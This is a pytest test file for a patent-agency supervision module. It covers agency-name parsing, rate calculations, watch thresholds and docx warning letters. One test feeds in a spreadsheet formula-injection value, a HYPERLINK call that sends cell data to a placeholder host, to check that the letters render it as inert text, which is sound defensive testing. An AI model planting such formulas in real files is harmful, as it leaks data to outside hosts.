@@ -1,0 +1,297 @@
+"""Patent agencies (docs/agencies.md, supervision/agencies.py, reports/agency_letters.py): the agency cell read in
+its many spellings, the figures of a tiny hand-built warehouse with hand-worked rates, the min_applications and
+watch boundaries, the day asked (the day before, the day itself, the day after), and the docx letters.
+
+The warehouse (one per module) holds three agencies of district 500118 on 2024-06-30:
+
+* 50001 重庆甲专利代理事务所(普通合伙), spelt three ways (one without its code), 7 applications of the region by
+  then: inventions A1 granted, A2 rejected, A3 deemed withdrawn, A4 deemed withdrawn then restored (pending), A7
+  granted the day after (pending), A8 rejected on the day; utility model A5 filed on the day.  A6 is filed the day
+  after, A9's applicant is of another district.  Concluded inventions 4: grant rate 1/4, rejection 2/4, deemed
+  withdrawal 1/4.  Claims 10, 6, —, 8, 5, —, 1: average 30/5 = 6.0.
+* 重庆乙知识产权代理有限公司 without a code ("有限责任公司" once): 3 applications, one under min_applications = 4.
+* 50003 from a cell naming two agencies ("…50003；…50004"): 4 applications, exactly min_applications.
+"""
+
+from __future__ import annotations
+
+import io
+from datetime import date
+from pathlib import Path
+
+import docx
+import pytest
+
+from hvpatent.reports.agency_letters import agency_letter
+from hvpatent.supervision import agencies, reviews
+from hvpatent.supervision.agencies import AgencyName, agency_detail, agency_name, agency_table
+from hvpatent.supervision.config import config_from
+from hvpatent.supervision.flags import Flag
+from hvpatent.warehouse.store import Warehouse
+
+AS_OF = date(2024, 6, 30)
+REGION = "500118"
+A_CODED = "重庆甲专利代理事务所(普通合伙) 50001"
+A_BARE = "重庆甲专利代理事务所（普通合伙）"
+A_FRONT = "50001 重庆甲专利代理事务所"
+B_LONG, B_SHORT = "重庆乙知识产权代理有限责任公司", "重庆乙知识产权代理有限公司"
+C_CELL = "重庆丙专利代理事务所 50003；重庆丁专利代理事务所 50004"
+B_KEY = "n:重庆乙知识产权代理有限公司"
+JIA = "n:北京集佳知识产权代理有限公司"
+WATCH = {"flagged_share": 0.25, "max_grant_rate": 0.25, "min_concluded": 4, "deemed_withdrawal_rate": 0.3,
+         "rejection_rate": 0.5, "confirmed": 1, "growth": 3.0}
+
+# app_no: (type, filing, agency cell, applicant, county, claims, [(event day, event type)])
+APPS = {
+    "A1": ("invention", date(2022, 1, 10), A_CODED, "甲公司", REGION, 10, [(date(2023, 5, 1), "granted")]),
+    "A2": ("invention", date(2022, 2, 10), A_BARE, "甲公司", REGION, 6, [(date(2023, 6, 1), "rejected")]),
+    "A3": ("invention", date(2022, 3, 10), A_FRONT, "乙公司", REGION, None,
+           [(date(2023, 7, 1), "deemed_withdrawn")]),
+    "A4": ("invention", date(2023, 4, 10), A_CODED, "乙公司", REGION, 8,
+           [(date(2023, 9, 1), "deemed_withdrawn"), (date(2023, 10, 1), "restoration")]),
+    "A5": ("utility_model", date(2024, 6, 30), A_CODED, "丙公司", REGION, 5, []),
+    "A6": ("invention", date(2024, 7, 1), A_CODED, "丙公司", REGION, 5, []),
+    "A7": ("invention", date(2023, 1, 5), A_CODED, "丁公司", REGION, None, [(date(2024, 7, 1), "granted")]),
+    "A8": ("invention", date(2023, 3, 1), A_CODED, "丁公司", REGION, 1, [(date(2024, 6, 30), "rejected")]),
+    "A9": ("invention", date(2023, 3, 1), A_CODED, "外区公司", "500119", 3, []),
+    "B1": ("design", date(2021, 5, 1), B_LONG, "戊公司", REGION, None, []),
+    "B2": ("utility_model", date(2022, 5, 1), B_SHORT, "戊公司", REGION, None, []),
+    "B3": ("utility_model", date(2024, 1, 1), B_SHORT, "戊公司", REGION, None, []),
+    "C1": ("utility_model", date(2024, 1, 1), C_CELL, "己公司", REGION, None, []),
+    "C2": ("utility_model", date(2024, 1, 2), C_CELL, "己公司", REGION, None, []),
+    "C3": ("utility_model", date(2024, 1, 3), C_CELL, "己公司", REGION, None, []),
+    "C4": ("utility_model", date(2024, 1, 4), C_CELL, "己公司", REGION, None, []),
+    "N1": ("invention", date(2023, 1, 1), None, "庚公司", REGION, None, []),   # filed without an agency
+}
+FLAGS = [Flag("A2", "near_duplicate", {}, ("", "")), Flag("A3", "near_duplicate", {}, ("", "")),
+         Flag("A3", "bulk_filing", {}, ("", "")), Flag("A9", "bulk_filing", {}, ("", ""))]
+
+
+def settings(**watch):
+    return config_from({"agencies": {"min_applications": 4, "trend_years": 3, "watch": {**WATCH, **watch}}}, "test")
+
+
+@pytest.fixture(scope="module")
+def con(tmp_path_factory: pytest.TempPathFactory):
+    wh = Warehouse(Path(tmp_path_factory.mktemp("agencies")) / "w.duckdb")
+    for app_no, (kind, filed, cell, applicant, county, claims, events) in APPS.items():
+        wh.con.execute("INSERT INTO applications (app_no, patent_type, filing_date, title, claims_count, agency,"
+                       " source, row_hash, first_import_id, last_import_id) VALUES (?, ?, ?, ?, ?, ?, 'test', ?, 1,"
+                       " 1)", [app_no, kind, filed, f"专利{app_no}", claims, cell, app_no])
+        wh.con.execute("INSERT INTO parties (app_no, seq, role, name, name_norm, party_type, town_code, county_code,"
+                       " city_code, province_code) VALUES (?, 1, 'applicant', ?, ?, 'enterprise', ?, ?, '500100',"
+                       " '500000')", [app_no, applicant, applicant, county + "001000", county])
+        for day, kind_of in events:
+            wh.con.execute("INSERT INTO legal_events (app_no, event_date, event_type, raw_text, import_id)"
+                           " VALUES (?, ?, ?, ?, 1)", [app_no, day, kind_of, kind_of])
+    yield wh.ibis()
+    wh.close()
+
+
+@pytest.fixture(scope="module")
+def table(con) -> dict[str, dict]:
+    return {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=settings(), flags=FLAGS)}
+
+
+# -- names -------------------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize(("cell", "want"), [
+    ("北京集佳知识产权代理有限公司 11227", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
+    ("北京集佳知识产权代理有限公司11227", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
+    ("11227 北京集佳知识产权代理有限公司", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
+    ("北京集佳知识产权代理有限公司（11227）", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
+    ("【11227】北京集佳知识产权代理有限公司", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
+    ("北京集佳知识产权代理有限公司(代码：11227)", AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
+    ("　北京　集佳知识产权代理有限公司　", AgencyName(JIA, None, "北京集佳知识产权代理有限公司")),
+    ("北京集佳知识产权代理有限责任公司", AgencyName(JIA, None, "北京集佳知识产权代理有限责任公司")),
+    ("苏州中合知识产权代理事务所(普通合伙) 32266",
+     AgencyName("32266", "32266", "苏州中合知识产权代理事务所(普通合伙)")),
+    ("苏州中合知识产权代理事务所（特殊普通合伙）",
+     AgencyName("n:苏州中合知识产权代理事务所", None, "苏州中合知识产权代理事务所(特殊普通合伙)")),
+    ("苏州中合知识产权代理事务所 (普通合伙",   # cut short
+     AgencyName("n:苏州中合知识产权代理事务所", None, "苏州中合知识产权代理事务所(普通合伙)")),
+    ("北京集佳知识产权代理有限公司 11227;北京三友知识产权代理有限公司 11127",
+     AgencyName("11227", "11227", "北京集佳知识产权代理有限公司")),
+    ("北京三友知识产权代理有限公司、北京集佳知识产权代理有限公司",
+     AgencyName("n:北京三友知识产权代理有限公司", None, "北京三友知识产权代理有限公司")),
+    ("King & Wood Mallesons (11001)", AgencyName("11001", "11001", "King & Wood Mallesons")),
+    ("ＡＢＣ　Ｐａｔｅｎｔ　Ｆｉｒｍ", AgencyName("n:abcpatentfirm", None, "ABC Patent Firm")),
+    ("11227", AgencyName("11227", "11227", "11227")),
+])
+def test_agency_name_reads_real_looking_cells(cell, want):
+    assert agency_name(cell) == want
+
+
+@pytest.mark.parametrize("cell", [None, "", "   ", "无", "-", "—", "null"])
+def test_agency_name_of_an_empty_cell_is_none(cell):
+    assert agency_name(cell) is None
+
+
+# -- the table ---------------------------------------------------------------------------------------------------
+
+def test_spellings_with_and_without_code_are_one_agency(table):
+    assert set(table) == {"50001", B_KEY, "50003"}
+    a = table["50001"]
+    assert (a["code"], a["name"]) == ("50001", "重庆甲专利代理事务所(普通合伙)")   # the most frequent spelling
+    assert a["variants"] == sorted([A_CODED, A_BARE, A_FRONT])
+    b = table[B_KEY]
+    assert (b["code"], b["name"], b["applications"]) == (None, B_SHORT, 3)
+    assert table["50003"]["name"] == "重庆丙专利代理事务所"   # the first agency of a cell naming two
+
+
+def test_hand_worked_figures(table):
+    a = table["50001"]
+    assert a["applications"] == 7                      # A1-A5, A7, A8: not A6 (filed after), not A9 (other district)
+    assert a["by_type"] == {"invention": 6, "utility_model": 1, "design": 0}
+    assert a["invention_share"] == pytest.approx(6 / 7)
+    assert a["concluded"] == 4                         # A1, A2, A3, A8; A4 restored, A7 granted after the day
+    assert (a["grant_rate"], a["rejection_rate"], a["deemed_withdrawal_rate"]) == (0.25, 0.5, 0.25)
+    assert a["avg_claims"] == 6.0
+    assert (a["flagged"], a["flagged_share"]) == (2, pytest.approx(2 / 7))
+    assert a["clients"] == 4
+    assert a["trend"] == [{"year": 2022, "applications": 3}, {"year": 2023, "applications": 3},
+                          {"year": 2024, "applications": 1}]
+    assert (a["last_12_months"], a["previous_12_months"], a["growth"]) == (1, 3, pytest.approx(1 / 3))
+    b = table[B_KEY]
+    assert b["by_type"] == {"invention": 0, "utility_model": 2, "design": 1}
+    assert (b["concluded"], b["grant_rate"], b["avg_claims"], b["invention_share"]) == (0, None, None, 0.0)
+
+
+def test_rank_only_from_min_applications(table):
+    assert table["50001"]["rank"] == 1                 # flagged share 2/7 first
+    assert table["50003"]["rank"] == 2                 # exactly min_applications (4): ranked
+    assert table[B_KEY]["rank"] is None                # one under (3): listed, not ranked nor watched
+    assert (table[B_KEY]["watch"], table[B_KEY]["reasons"]) == (False, [])
+
+
+def test_watch_reasons_name_the_figure_and_threshold(table):
+    a = table["50001"]
+    assert a["watch"] is True
+    assert [en for _, en in a["reasons"]] == [
+        "flagged share 28.6% (threshold ≥ 25.0%)",
+        "invention grant rate 25.0% (threshold ≤ 25.0%, 4 concluded)",
+        "invention rejection rate 50.0% (threshold ≥ 50.0%, 4 concluded)",
+    ]
+    assert a["reasons"][0][0] == "疑似非正常申请占比 28.6%（阈值 ≥ 25.0%）"
+    assert table["50003"]["watch"] is False
+
+
+def test_watch_thresholds_just_beyond_are_not_reasons(con):
+    rows = {r["key"]: r for r in agency_table(
+        con, AS_OF, region=REGION, flags=FLAGS,
+        config=settings(flagged_share=0.29, max_grant_rate=0.24, rejection_rate=0.51, deemed_withdrawal_rate=0.25))}
+    assert [en.split(" (")[0] for _, en in rows["50001"]["reasons"]] == ["invention deemed-withdrawal rate 25.0%"]
+
+
+def test_rates_need_min_concluded(con):
+    rows = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, flags=FLAGS,
+                                              config=settings(min_concluded=5))}
+    assert [en.split(" ")[0] for _, en in rows["50001"]["reasons"]] == ["flagged"]   # 4 concluded < 5
+
+
+def test_min_applications_boundary_moves_with_the_setting(con):
+    config = config_from({"agencies": {"min_applications": 5, "watch": WATCH}}, "test")
+    rows = {r["key"]: r["rank"] for r in agency_table(con, AS_OF, region=REGION, config=config, flags=FLAGS)}
+    assert rows == {"50001": 1, "50003": None, B_KEY: None}
+
+
+@pytest.mark.parametrize(("day", "applications", "concluded", "granted"), [
+    (date(2024, 6, 29), 6, 3, 1),    # A5 filed and A8 rejected on the 30th: not yet
+    (AS_OF, 7, 4, 1),
+    (date(2024, 7, 1), 8, 5, 2),     # A6 filed, A7 granted on the 1st
+])
+def test_only_what_was_known_on_the_day(con, day, applications, concluded, granted):
+    row = next(r for r in agency_table(con, day, region=REGION, config=settings(), flags=[]) if r["key"] == "50001")
+    assert (row["applications"], row["concluded"]) == (applications, concluded)
+    assert row["grant_rate"] == pytest.approx(granted / concluded)
+
+
+def test_confirmed_reviews_count_and_watch(con, monkeypatch):
+    seen = []
+
+    def confirmed(c, as_of=None):
+        seen.append(as_of)
+        return {"A1": {"decided_at": AS_OF, "decided_by": "u", "note": None}, "X9": {}}
+
+    monkeypatch.setattr(reviews, "confirmed_applications", confirmed)
+    rows = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=settings(), flags=[])}
+    assert seen == [AS_OF]
+    assert rows["50001"]["confirmed"] == 1
+    assert rows["50001"]["reasons"][-1][1] == "1 applications confirmed abnormal on review (threshold ≥ 1)"
+
+
+def test_flags_computed_when_not_given(con, monkeypatch):
+    calls = []
+    monkeypatch.setattr(agencies, "flag_applications",
+                        lambda c, as_of, region=None, config=None: calls.append((as_of, region)) or FLAGS[:1])
+    rows = {r["key"]: r for r in agency_table(con, AS_OF, region=REGION, config=settings())}
+    assert calls == [(AS_OF, REGION)]
+    assert rows["50001"]["flagged"] == 1
+
+
+# -- one agency --------------------------------------------------------------------------------------------------
+
+def test_detail_lists_clients_and_flagged_applications(con):
+    d = agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)
+    assert d["applications"] == 7 and d["rank"] == 1
+    assert [(c["applicant"], c["applications"], c["flagged"]) for c in d["clients"]] == [
+        ("乙公司", 2, 1), ("甲公司", 2, 1), ("丁公司", 2, 0), ("丙公司", 1, 0)]
+    assert [(f["app_no"], f["rules"]) for f in d["flagged_applications"]] == [
+        ("A2", ["near_duplicate"]), ("A3", ["near_duplicate", "bulk_filing"])]
+
+
+def test_detail_by_spelling_and_unknown_key(con):
+    by_name = agency_detail(con, "重庆甲专利代理事务所", AS_OF, region=REGION, config=settings(), flags=FLAGS)
+    assert by_name["key"] == "50001"
+    assert agency_detail(con, "99999", AS_OF, region=REGION, config=settings(), flags=FLAGS) is None
+    assert agency_detail(con, "n:没有这家", AS_OF, region=REGION, config=settings(), flags=FLAGS) is None
+
+
+# -- letters -----------------------------------------------------------------------------------------------------
+
+def _text(data: bytes) -> tuple[str, str]:
+    doc = docx.Document(io.BytesIO(data))
+    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
+    return "\n".join(p.text for p in doc.paragraphs) + "\n" + "\n".join(cells), doc.element.xml
+
+
+@pytest.fixture(scope="module")
+def detail(con) -> dict:
+    return agency_detail(con, "50001", AS_OF, region=REGION, config=settings(), flags=FLAGS)
+
+
+def test_letter_to_the_agency(detail):
+    data = agency_letter(detail, to="agency", as_of=AS_OF, issuer="永川区知识产权局", issued_on=date(2024, 7, 2))
+    text, _ = _text(data)
+    figures = {r.cells[0].text: r.cells[1].text for r in docx.Document(io.BytesIO(data)).tables[0].rows}
+    assert (figures["代理申请量"], figures["本地区委托人"], figures["发明授权率（审结）"]) == ("7", "4", "25.0%")
+    assert "重庆甲专利代理事务所(普通合伙)（50001）：" in text
+    assert "疑似非正常申请占比 28.6%（阈值 ≥ 25.0%）" in text
+    assert "发明驳回率 50.0%（阈值 ≥ 50.0%，审结 4 件）" in text
+    assert "A2" in text and "A3" in text and "A1\n" not in text
+    assert "《规范申请专利行为的规定》" in text and "永川区知识产权局" in text and "2024年7月2日" in text
+
+
+def test_letter_to_the_clients_one_page_each(detail):
+    text, _ = _text(agency_letter(detail, to="clients", as_of=AS_OF))
+    assert text.count("非正常专利申请风险提示函") == 2          # 乙公司 and 甲公司: the clients with flags
+    assert "甲公司：" in text and "乙公司：" in text and "丁公司" not in text
+    one, _ = _text(agency_letter(detail, to="clients", as_of=AS_OF, client="甲公司", lang="en"))
+    assert "To 甲公司:" in one and "A2" in one and "A3" not in one
+
+
+def test_letter_rejects_an_unknown_addressee(detail):
+    with pytest.raises(ValueError, match="unknown addressee"):
+        agency_letter(detail, to="press", as_of=AS_OF)
+
+
+def test_letter_writes_formula_like_names_as_plain_text():
+    evil = '=HYPERLINK("http://x.example/?"&A1,"详情")'
+    detail = {"key": "n:x", "code": None, "name": evil, "applications": 1, "invention_share": 1.0,
+              "grant_rate": None, "rejection_rate": None, "deemed_withdrawal_rate": None, "avg_claims": None,
+              "flagged": 1, "flagged_share": 1.0, "confirmed": 0, "reasons": [], "clients": [],
+              "flagged_applications": [{"app_no": "X1", "title": "@SUM(1+1)\x00", "applicant": "-x",
+                                        "applicant_name": "+甲", "filing_date": AS_OF, "rules": ["bulk_filing"]}]}
+    text, xml = _text(agency_letter(detail, to="agency", as_of=AS_OF))
+    assert evil + "：" in text and "@SUM(1+1)\ufffd" in text and "+甲" in text
+    assert "instrText" not in xml and "fldSimple" not in xml     # no Word field anywhere
